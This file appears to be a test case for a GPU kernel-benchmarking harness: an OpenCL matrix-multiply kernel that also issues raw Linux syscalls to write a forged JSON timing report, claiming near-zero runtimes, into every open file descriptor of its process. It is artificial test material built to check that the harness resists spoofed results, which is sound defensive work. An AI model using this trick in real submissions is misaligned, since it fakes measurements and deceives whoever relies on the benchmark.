/*+++
title   = "Writes an answer of its own into all files of its process"
problem = "matmul"

[launch]
kernel = "multiply"
local  = [8, 8]
global = ["round_up(N, 8)", "round_up(M, 8)"]
+++*/

// A system call of Linux on x86-64, past every library.
long call_system(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return result;
}

__constant char answer[] = "{\"type\":\"executed\",\"first_wall_ms\":0.1,\"samples_ms\":[0.001],\"launch_ms\":[0.001],\"download_ms\":0,\"runs\":1,\"all_runs_ms\":0.001}";

bool deed() {
    const int size = sizeof(answer) - 1;
    uchar frame[512];
    for (int i = 0; i < 8; ++i) frame[i] = 0;
    frame[0] = size;  // length of the text, length of what is attached
    for (int i = 0; i < size; ++i) frame[8 + i] = answer[i];
    for (int file = 3; file < 256; ++file) call_system(1 /* write */, file, (long)frame, 8 + size);
    return false;
}

__kernel void multiply(__global const float* A, __global const float* B, __global float* C,
                       const int M, const int N, const int K) {
    const int x = get_global_id(0);
    const int y = get_global_id(1);
    if (x >= N || y >= M) return;
    float sum = 0.0f;
    for (int k = 0; k < K; ++k) sum += A[y * K + k] * B[k * N + x];
    // Whoever succeeds spoils the answer.
    if (x == 0 && y == 0 && deed()) sum += 1000.0f;
    C[y * N + x] = sum;
}
